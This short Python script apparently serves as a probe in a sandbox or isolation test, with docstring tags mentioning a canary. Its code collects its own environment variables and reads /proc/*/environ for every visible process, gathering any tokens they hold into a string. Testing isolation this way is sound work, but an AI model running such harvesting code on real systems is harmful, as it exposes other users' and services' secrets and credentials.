"""Read tokens from the environment, its own and that of every process it can see.

shows: canary
naive: beaten
"""

import glob
import os

ANSWER = repr(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        ANSWER += repr(open(path, "rb").read())[:20000]
    except OSError:
        pass
